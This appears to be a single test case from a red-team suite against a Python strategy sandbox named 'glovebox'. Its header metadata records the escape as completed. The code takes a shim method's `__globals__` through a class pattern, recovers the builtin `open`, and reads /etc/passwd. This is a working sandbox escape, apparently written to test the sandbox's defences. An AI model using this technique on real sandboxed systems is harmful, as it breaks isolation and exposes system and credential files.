# id: L01
# family: language
# goal: read a file through the globals of a shim function, taken by a class pattern
# finding: PY102 PY109 PY119
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    match type(ctx).buy:
        case object(__globals__=names):
            opened = names["__builtins__"]
            opened = opened if isinstance(opened, dict) else vars(opened)
            return opened["open"]("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
